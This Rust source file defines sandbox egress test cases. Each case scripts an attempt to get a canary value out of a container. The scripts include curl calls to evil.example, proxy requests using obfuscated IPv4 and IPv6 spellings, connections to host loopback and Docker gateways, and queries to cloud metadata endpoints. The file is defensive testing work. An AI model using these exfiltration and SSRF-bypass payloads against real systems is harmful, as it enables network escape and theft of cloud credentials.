//! Addresses and names that no rule allows, and the addresses of the house.

use deckhand_executors::egress::Phase;

use crate::ground::{Control, Inside, Road};

/// By name, by address, and by the addresses of the house.
pub const ROWS: &[Inside] = &[
    Inside {
        id: "net-name",
        tries: "Fetch a page of a host that no rule names, through the proxy.",
        script: r#"curl -s -m 8 "http://evil.example/$CANARY"; echo "tried: curl ended with $?""#,
        ..Inside::OUT
    },
    Inside {
        id: "net-name-in-connect",
        tries: "Carry the secret in the name of a host for which a tunnel is asked.",
        script: r#"curl -s -k -m 8 "https://$CANARY.evil.example/"; echo "tried: curl ended with $?""#,
        ..Inside::OUT
    },
    Inside {
        id: "net-ipv4-literal",
        tries: "Connect to the host by its IPv4 address, past the proxy and through it.",
        script: r#"curl -s -m 3 --noproxy '*' "http://$GATEWAY:$PORT/$CANARY"; direct=$?
curl -s -m 3 "http://$GATEWAY:$PORT/$CANARY"; echo "tried: direct $direct, by proxy $?""#,
        road: Road::Direct(Phase::Work),
        ..Inside::OUT
    },
    Inside {
        id: "net-ipv4-odd-spellings",
        tries: "Ask the proxy for an address written as one number, in hexadecimal, in octal, shortened, with a dot behind.",
        script: python!(
            r#"
a, b, c, d = (int(part) for part in gateway.split("."))
whole = struct.unpack(">I", socket.inet_aton(gateway))[0]
for name in [str(whole), hex(whole), f"0{a:o}.0{b:o}.0{c:o}.0{d:o}", f"{a}.{b}.{c * 256 + d}", f"0x{a:x}.{b}.{c}.{d}", gateway + ".", "%31" + gateway[1:],
             "127.1", "2130706433", "0x7f.1", "017700000001", "0", "0.0.0.0"]:
    quietly(lambda: proxy(f"GET http://{name}:{port}/{canary} HTTP/1.1\r\nHost: {name}:{port}\r\nConnection: close\r\n\r\n"))
    quietly(lambda: proxy(f"CONNECT {name}:{port} HTTP/1.1\r\nHost: {name}:{port}\r\n\r\n{canary}"))"#
        ),
        road: Road::Direct(Phase::Work),
        ..Inside::OUT
    },
    Inside {
        id: "net-ipv6",
        tries: "Connect and send to global, link-local and multicast IPv6 addresses.",
        script: python!(
            r#"
for address in ["2001:4860:4860::8888", "fe80::1", "ff02::1", "fd00::1"]:
    quietly(lambda: tcp(address, 80, canary, socket.AF_INET6))
    quietly(lambda: udp(address, 53, canary, socket.AF_INET6))"#
        ),
        // The bare container has no IPv6 either; the table of its packets is what a control would show.
        control: Control::None,
        ..Inside::OUT
    },
    Inside {
        id: "net-ipv6-through-proxy",
        tries: "Ask the proxy for IPv6 literals, v4-mapped, translated and with a zone.",
        script: python!(
            r#"
a, b, c, d = (int(part) for part in gateway.split("."))
mapped = f"::ffff:{gateway}"
for name in ["[::1]", f"[{mapped}]", f"[64:ff9b::{a:02x}{b:02x}:{c:02x}{d:02x}]", "[fe80::1%25eth0]", "[::]", "[0:0:0:0:0:ffff:7f00:1]"]:
    quietly(lambda: proxy(f"GET http://{name}:{port}/{canary} HTTP/1.1\r\nHost: {name}:{port}\r\nConnection: close\r\n\r\n"))
    quietly(lambda: proxy(f"CONNECT {name}:{port} HTTP/1.1\r\nHost: {name}:{port}\r\n\r\n{canary}"))"#
        ),
        road: Road::Direct(Phase::Work),
        ..Inside::OUT
    },
    Inside {
        id: "net-v4-mapped",
        tries: "Connect past the proxy to an IPv4 address in the clothes of an IPv6 one.",
        script: python!(
            r#"quietly(lambda: tcp("::ffff:" + gateway, port, canary, socket.AF_INET6))"#
        ),
        ..Inside::OUT
    },
    Inside {
        id: "net-host-gateway",
        tries: "Reach a service of the host by the engine's bridge and by the engine's name for the host.",
        script: python!(
            r#"
for address in [gateway, "172.17.0.1", "host.docker.internal", "gateway.docker.internal"]:
    quietly(lambda: tcp(address, port, canary))"#
        ),
        ..Inside::OUT
    },
    Inside {
        id: "net-host-address",
        tries: "Reach a service of the host by the host's own address.",
        script: python!(r#"quietly(lambda: tcp(host, port, canary))"#),
        ..Inside::OUT
    },
    Inside {
        id: "net-host-loopback-by-proxy",
        tries: "Let the proxy, which runs on the host, connect to the host's own loopback.",
        script: python!(
            r#"
for name in ["localhost", "127.0.0.1", "localhost.", "LOCALHOST", "ip6-localhost", socket.gethostname()]:
    for at in [port, 80, 443]:
        quietly(lambda: proxy(f"GET http://{name}:{at}/{canary} HTTP/1.1\r\nHost: {name}:{at}\r\nConnection: close\r\n\r\n"))
        quietly(lambda: proxy(f"CONNECT {name}:{at} HTTP/1.1\r\nHost: {name}:{at}\r\n\r\n{canary}"))"#
        ),
        road: Road::Direct(Phase::Work),
        ..Inside::OUT
    },
    Inside {
        id: "net-udp",
        tries: "Send a datagram to the host and to everybody.",
        script: python!(
            r#"
quietly(lambda: udp(host, port, canary))
quietly(lambda: udp(gateway, port, canary))
quietly(lambda: udp("255.255.255.255", port, canary))
quietly(lambda: udp("239.255.255.250", 1900, canary))"#
        ),
        ..Inside::OUT
    },
    Inside {
        id: "net-metadata",
        tries: "Ask the cloud's metadata address, past the proxy.",
        script: r#"curl -s -m 3 --noproxy '*' "http://169.254.169.254/latest/meta-data/$CANARY"
one=$?; curl -s -m 3 --noproxy '*' -X PUT "http://169.254.169.254/latest/api/token"; echo "tried: curl ended with $one and $?""#,
        ..Inside::OUT
    },
    Inside {
        id: "net-metadata-by-proxy",
        tries: "Ask the cloud's metadata address and names through the proxy, in several spellings.",
        script: python!(
            r#"
for name in ["169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "[fd00:ec2::254]", "[::ffff:169.254.169.254]", "metadata.google.internal", "metadata", "100.100.100.200"]:
    quietly(lambda: proxy(f"GET http://{name}/latest/meta-data/{canary} HTTP/1.1\r\nHost: {name}\r\nMetadata-Flavor: Google\r\nConnection: close\r\n\r\n"))"#
        ),
        ..Inside::OUT
    },
];
